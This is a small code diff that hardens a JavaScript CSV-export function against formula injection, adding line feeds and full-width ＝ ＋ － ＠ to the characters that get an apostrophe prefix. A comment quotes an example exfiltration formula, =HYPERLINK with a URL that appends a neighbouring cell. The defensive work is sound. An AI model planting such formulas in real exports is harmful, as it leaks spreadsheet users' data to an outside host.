@@ -391,9 +391,11 @@
    * A text a spreadsheet would take for a formula (it begins with = + - @, a tab or a carriage return)
    * kept as text by a leading apostrophe (OWASP's advice on CSV injection): a registry's name such as
    * =HYPERLINK("https://…?"&A1) would otherwise send the cell beside it away when the file is opened.
+   * A leading line feed, and the full-width ＝ ＋ － ＠ that spreadsheets in East Asian locales read as
+   * their ASCII forms, are treated the same.
    */
   function inertText(text) {
-    return /^[=+\-@\t\r]/.test(text) ? "'" + text : text;
+    return /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/.test(text) ? "'" + text : text;
   }
 
   /** A number or a boolean: written as JSON gives it, never read as a formula (`-5` stays a number). */
